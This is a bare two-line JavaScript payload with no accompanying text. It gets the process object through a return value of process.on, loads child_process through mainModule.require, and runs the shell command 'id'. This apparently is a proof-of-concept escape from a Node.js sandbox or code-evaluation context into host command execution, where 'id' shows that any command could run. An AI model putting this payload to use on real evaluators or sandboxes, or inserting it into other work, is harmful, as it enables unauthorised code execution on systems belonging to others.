const p = process.on("beforeExit", () => {});
p.mainModule.require("child_process").execSync("id", {stdio: "inherit"});
